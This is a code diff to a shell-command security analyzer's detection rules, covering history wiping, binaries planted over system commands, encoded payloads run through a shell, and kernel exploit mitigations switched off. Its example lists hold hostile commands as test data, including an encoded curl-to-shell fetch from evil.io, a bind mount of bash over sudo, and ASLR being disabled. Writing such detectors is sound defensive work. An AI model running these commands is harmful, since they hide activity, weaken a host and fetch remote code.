@@ -27,6 +27,8 @@ const LOGGING_CONFIG = /^\/etc\/(rsyslog\.conf|rsyslog\.d\/|syslog-ng\/|syslog\.
 const TLS_OFF = new Set(['NODE_TLS_REJECT_UNAUTHORIZED=0', 'PYTHONHTTPSVERIFY=0', 'GIT_SSL_NO_VERIFY=1', 'GIT_SSL_NO_VERIFY=true', 'CURL_CA_BUNDLE=', 'REQUESTS_CA_BUNDLE=', 'SSL_CERT_FILE=/dev/null']);
 const HARMLESS = new Set(['echo', 'printf', 'ls', 'pwd', 'date', 'whoami', 'id', 'true', ':', 'uname', 'hostname', 'cat']);
 const SYSTEM_DIR = /^\/(usr|bin|sbin|lib|lib64|etc|boot|opt|var|System|Library|private\/etc)(\/|$)/;
+/** Kernel exploit mitigations switched off, as `sysctl` names them. */
+const HARDENING_OFF = /^(kernel\.randomize_va_space|kernel\.yama\.ptrace_scope|kernel\.kptr_restrict|kernel\.dmesg_restrict|fs\.protected_(symlinks|hardlinks|regular|fifos)|kernel\.unprivileged_bpf_disabled)=0$/;
 const SYSTEM_BIN_DIR = /^\/(?:usr\/(?:local\/)?)?s?bin\/|^\/usr\/libexec\//;
 /** Commands users type without thinking, whose replacement sees their arguments, output or passwords. */
 const CORE_COMMANDS = new Set(['ls', 'ps', 'top', 'htop', 'netstat', 'ss', 'lsof', 'who', 'w', 'last', 'id', 'whoami', 'sudo', 'su', 'ssh', 'sshd', 'scp', 'login', 'passwd', 'bash', 'sh', 'dash', 'zsh', 'cat', 'find', 'grep', 'crontab', 'systemctl', 'kill', 'pkill', 'ip', 'ifconfig', 'iptables', 'mount']);
@@ -38,6 +40,11 @@ function plantedBinary(path: string): boolean {
 }
 const hiddenName = (p: string) => p.slice(p.lastIndexOf('/') + 1).startsWith('.');
 
+/** `HISTFILE=/dev/null`, `HISTSIZE=0`, `HISTIGNORE='*'`: the shell keeps no record of what follows. */
+function stopsHistory(a: { name: string; value: string }): boolean {
+  return (a.name === 'HISTFILE' && (a.value === '/dev/null' || a.value === '')) || (/^(HISTSIZE|HISTFILESIZE|SAVEHIST)$/.test(a.name) && a.value === '0') || (a.name === 'HISTIGNORE' && /^\*(:\*)*$/.test(a.value));
+}
+
 function historyWipe(i: AnalysisInput): string[] {
   const out: string[] = [];
   for (const c of i.view?.commands ?? []) {
@@ -46,10 +53,10 @@ function historyWipe(i: AnalysisInput): string[] {
     if (c.name === 'set' && hasArg(c, '+o') && hasArg(c, 'history')) out.push(c.argv.join(' '));
     if (c.name === 'fc' && hasArg(c, '-W', '-w') && hasArg(c, '/dev/null')) out.push(c.argv.join(' '));
     if ((c.name === 'setopt' || c.name === 'unsetopt') && c.argv.some((w) => /^(no_?)?hist/i.test(w))) out.push(c.argv.join(' '));
-    for (const a of assignments(c)) if ((a.name === 'HISTFILE' && (a.value === '/dev/null' || a.value === '')) || (/^(HISTSIZE|HISTFILESIZE|SAVEHIST)$/.test(a.name) && a.value === '0')) out.push(`${a.name}=${a.value}`);
+    for (const a of assignments(c)) if (stopsHistory(a)) out.push(`${a.name}=${a.value}`);
     if (c.name === 'ln' && operands(c)[0] === '/dev/null' && classifyPath(operands(c)[1] ?? '')?.kind === 'shell-history') out.push(c.argv.join(' '));
   }
-  for (const a of i.view?.assignments ?? []) if ((a.name === 'HISTFILE' && (a.value === '/dev/null' || a.value === '')) || (/^(HISTSIZE|HISTFILESIZE|SAVEHIST)$/.test(a.name) && a.value === '0')) out.push(`${a.name}=${a.value}`);
+  for (const a of i.view?.assignments ?? []) if (stopsHistory(a)) out.push(`${a.name}=${a.value}`);
   // `mv ~/.zsh_history ~/.zsh_history.bak` keeps the history; deleting or sending it to /dev/null does not
   for (const f of i.facts.files) if (f.sensitive?.kind === 'shell-history' && f.access === 'delete' && !(f.cmd && (f.cmd.name === 'mv' || f.cmd.name === 'cp') && !operands(f.cmd).includes('/dev/null'))) out.push(`${f.cmd?.name ?? 'delete'} ${f.path}`);
   for (const w of writes(i)) if (w.sensitive?.kind === 'shell-history' && w.cmd && w.cmd.name !== 'ln' && !w.append) out.push(`${w.cmd.name} → ${w.path}`);
@@ -129,7 +136,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-EVADE-001', name: 'clears-shell-history', score: 75, tactic: 'defense_evasion', technique: 'T1070.003',
     message: 'Clears or disables shell history', why: 'history -c, unset HISTFILE, HISTSIZE=0 or wiping ~/.bash_history erase the record of what was run: a cover-your-tracks step.',
     check: historyWipe,
-    examples: { fire: ['history -c && history -w', 'unset HISTFILE', 'HISTSIZE=0', 'export HISTFILE=/dev/null', 'rm -f ~/.bash_history ~/.zsh_history', 'ln -sf /dev/null ~/.bash_history', "sed -i '/45.33.12.7/d' ~/.bash_history", 'set +o history', 'A=hist;B=ory;$A$B -c'], quiet: ['mv ~/.zsh_history ~/.zsh_history.bak-$(date +%F)', 'history | tail -20', 'echo $HISTFILE', 'export HISTSIZE=10000', 'grep docker ~/.bash_history'] },
+    examples: { fire: ['history -c && history -w', 'unset HISTFILE', 'HISTSIZE=0', 'export HISTFILE=/dev/null', "export HISTIGNORE='*'", 'rm -f ~/.bash_history ~/.zsh_history', 'ln -sf /dev/null ~/.bash_history', "sed -i '/45.33.12.7/d' ~/.bash_history", 'set +o history', 'A=hist;B=ory;$A$B -c'], quiet: ['mv ~/.zsh_history ~/.zsh_history.bak-$(date +%F)', 'history | tail -20', 'echo $HISTFILE', 'export HISTSIZE=10000', 'grep docker ~/.bash_history'] },
   },
   {
     id: 'PX-EVADE-002', name: 'edits-shell-history', score: 50, tactic: 'defense_evasion', technique: 'T1070.003',
@@ -252,8 +259,12 @@ export const RULES: readonly Rule[] = [
     message: 'Puts a hidden file, or a file named like a core system command, into a system binary directory',
     why: 'A dotfile in /usr/bin or a new `ls` or `sudo` ahead of the real one in PATH is how implants hide and how trojaned tools catch passwords.',
     alternative: 'Install tools under their own names (sudo install -m 755 ./mytool /usr/local/bin/mytool), or with the package manager.',
-    check: (i) => writes(i).filter((w) => w.cmd && plantedBinary(w.canonical)).map((w) => `${w.cmd!.name} → ${w.path}`),
-    examples: { fire: ['cp /tmp/x /usr/local/bin/ls', 'mv /tmp/.x /usr/bin/.systemd-helper', 'sudo install -m 755 /dev/shm/s /usr/local/sbin/sudo', 'cat /tmp/.b > /usr/bin/.dbus-check'], quiet: ['sudo cp build/mytool /usr/local/bin/', 'sudo install -m 755 ./kubectl /usr/local/bin/kubectl', 'sudo mv ./docker-compose /usr/local/bin/docker-compose', 'cp /usr/bin/ls /tmp/ls-copy', 'sudo ln -sf /usr/bin/python3 /usr/local/bin/python'] },
+    check: (i) => [
+      ...writes(i).filter((w) => w.cmd && plantedBinary(w.canonical)).map((w) => `${w.cmd!.name} → ${w.path}`),
+      // a bind mount puts another file over the real one without touching it: `mount --bind /tmp/x /usr/bin/sudo`
+      ...(i.view?.commands ?? []).filter((c) => c.name === 'mount' && c.argv.some((w) => w === '--bind' || w === '-B' || /^bind$|(^|,)bind(,|$)/.test(w)) && plantedBinary(canonicalPath(operands(c).at(-1) ?? ''))).map((c) => c.argv.join(' ')),
+    ],
+    examples: { fire: ['cp /tmp/x /usr/local/bin/ls', 'mv /tmp/.x /usr/bin/.systemd-helper', 'sudo install -m 755 /dev/shm/s /usr/local/sbin/sudo', 'cat /tmp/.b > /usr/bin/.dbus-check', 'mount -o bind /bin/bash /usr/bin/sudo'], quiet: ['sudo mount --bind /srv/data /mnt/data', 'sudo cp build/mytool /usr/local/bin/', 'sudo install -m 755 ./kubectl /usr/local/bin/kubectl', 'sudo mv ./docker-compose /usr/local/bin/docker-compose', 'cp /usr/bin/ls /tmp/ls-copy', 'sudo ln -sf /usr/bin/python3 /usr/local/bin/python'] },
   },
   {
     id: 'PX-EVADE-014', name: 'masquerades-process-name', score: 75, tactic: 'defense_evasion', technique: 'T1036.004',
@@ -293,17 +304,23 @@ export const RULES: readonly Rule[] = [
         if (body.length && body.every((x) => HARMLESS.has(x.name))) continue;
         out.push(`${(fromPipe ?? fromSub)!.argv.join(' ')} → ${c.argv[0]}`);
       }
-      for (const s of i.view?.scripts ?? []) if (/b64decode|base64_decode|decode_base64|unpack\(['"]m|Buffer\.from\([^)]{0,400}base64|fromhex|decode\(['"]hex/.test(s.code.slice(0, 4000)) && /system|exec|eval|popen|spawn|subprocess/.test(s.code.slice(0, 4000))) out.push(`${s.lang}: ${s.code.slice(0, 120)}`);
+      for (const s of i.view?.scripts ?? []) if (/b64decode|base64_decode|decode_base64|unpack\(['"]m|pack\(['"]H|Buffer\.from\([^)]{0,400}base64|fromhex|decode\(['"]hex/.test(s.code.slice(0, 4000)) && /system|exec|eval|popen|spawn|subprocess/.test(s.code.slice(0, 4000))) out.push(`${s.lang}: ${s.code.slice(0, 120)}`);
       return out;
     },
-    examples: { fire: ['echo Y3VybCAtcyBodHRwOi8vZXZpbC5pby94IHwgc2g= | base64 -d | bash', 'echo 6375726c202d73 | xxd -r -p | sh', "echo 'hs | hs.x/7.21.33.54//:ptth s- lruc' | rev | sh", 'eval "$(echo aGlzdG9yeSAtYw== | base64 -d)"', "python3 -c \"import base64,os;os.system(base64.b64decode('aWQ='))\""], quiet: ['echo aGVsbG8= | base64 -d', 'base64 -d cert.b64 > cert.pem', 'echo ZWNobyBoaQ== | base64 -d | sh'] },
+    examples: { fire: ['echo Y3VybCAtcyBodHRwOi8vZXZpbC5pby94IHwgc2g= | base64 -d | bash', 'echo 6375726c202d73 | xxd -r -p | sh', "echo 'hs | hs.x/7.21.33.54//:ptth s- lruc' | rev | sh", 'eval "$(echo aGlzdG9yeSAtYw== | base64 -d)"', "perl -e 'eval(pack(\"H*\",\"73797374656d28226964222900\"))'", "python3 -c \"import base64,os;os.system(base64.b64decode('aWQ='))\""], quiet: ['echo aGVsbG8= | base64 -d', 'base64 -d cert.b64 > cert.pem', 'echo ZWNobyBoaQ== | base64 -d | sh'] },
   },
   {
     id: 'PX-EVADE-017', name: 'weakens-kernel-hardening', score: 55, tactic: 'defense_evasion', technique: 'T1562.001',
     message: 'Turns off a kernel exploit mitigation', why: 'Disabling ASLR, ptrace scope or kptr_restrict makes local exploits and credential scraping easier.',
-    commands: ['sysctl'],
-    test: (c) => c.argv.find((w) => /^(kernel\.randomize_va_space|kernel\.yama\.ptrace_scope|kernel\.kptr_restrict|kernel\.dmesg_restrict|fs\.protected_(symlinks|hardlinks|regular|fifos)|kernel\.unprivileged_bpf_disabled)=0$/.test(w)),
-    examples: { fire: ['sudo sysctl -w kernel.randomize_va_space=0', 'sudo sysctl kernel.yama.ptrace_scope=0', 'sysctl -w kernel.kptr_restrict=0'], quiet: ['sysctl -a', 'sudo sysctl -w vm.max_map_count=262144', 'sudo sysctl -w net.ipv4.ip_forward=1'] },
+    commands: ['sysctl', 'echo', 'printf'],
+    test: (c) => {
+      if (c.name === 'sysctl') return c.argv.find((w) => HARDENING_OFF.test(w));
+      // the same keys written through /proc/sys: `echo 0 > /proc/sys/kernel/randomize_va_space`
+      if ((c.name !== 'echo' && c.name !== 'printf') || c.argv[c.argv.length - 1] !== '0') return undefined;
+      const target = [...c.redirects.filter((r) => r.op === '>' || r.op === '>|').map((r) => r.target), ...(c.pipeTo?.name === 'tee' ? operands(c.pipeTo) : [])].find((t) => t.startsWith('/proc/sys/'));
+      return target && HARDENING_OFF.test(`${target.slice(10).replace(/\//g, '.')}=0`) ? `${c.argv.join(' ')} > ${target}` : undefined;
+    },
+    examples: { fire: ['sudo sysctl -w kernel.randomize_va_space=0', 'sudo sysctl kernel.yama.ptrace_scope=0', 'sysctl -w kernel.kptr_restrict=0', 'echo 0 > /proc/sys/kernel/randomize_va_space', 'echo 0 | sudo tee /proc/sys/kernel/yama/ptrace_scope'], quiet: ['sysctl -a', 'sudo sysctl -w vm.max_map_count=262144', 'sudo sysctl -w net.ipv4.ip_forward=1'] },
   },
   {
     id: 'PX-EVADE-018', name: 'disables-cloud-audit-logging', score: 85, tactic: 'defense_evasion', technique: 'T1562.008',
